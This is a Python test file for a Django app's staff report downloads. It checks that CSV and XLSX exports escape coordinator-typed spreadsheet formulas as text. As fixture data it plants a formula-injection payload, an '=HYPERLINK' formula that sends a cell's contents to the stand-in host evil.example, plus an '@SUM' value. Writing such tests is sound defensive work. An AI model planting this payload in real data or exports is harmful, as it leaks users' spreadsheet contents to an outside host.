"""Report downloads never hand a spreadsheet a formula that a coordinator typed."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from coordinators.models import Activity
from councils.models import Council

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")'


def _plant(report_year):
    activity = Activity.objects.filter(area__code="27127").order_by("pk").first()
    Activity.objects.filter(pk=activity.pk).update(is_case_example=True, response=HYPERLINK)
    Council.objects.filter(pk=report_year["councils"][0].pk).update(existing_body="@SUM(1+1)")


def test_the_report_csv_writes_typed_formulas_as_text(client, report_year, city_staff):
    _plant(report_year)
    client.force_login(city_staff)
    cells = []
    for name in ("cases", "councils"):
        body = client.get(f"/staff/reports/{name}.csv?fy=2024").content.decode("utf-8-sig")
        cells += [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + HYPERLINK in cells
    assert "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]


def test_the_report_xlsx_writes_typed_formulas_as_text(client, report_year, city_staff):
    _plant(report_year)
    client.force_login(city_staff)
    values = []
    for name in ("cases", "councils"):
        book = load_workbook(io.BytesIO(client.get(f"/staff/reports/{name}.xlsx?fy=2024").content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                values += [(c.value, c.data_type) for c in row if isinstance(c.value, str)]
    assert ("'" + HYPERLINK, "s") in values
    assert not [v for v, kind in values if kind == "f" or v.startswith(("=", "@"))]
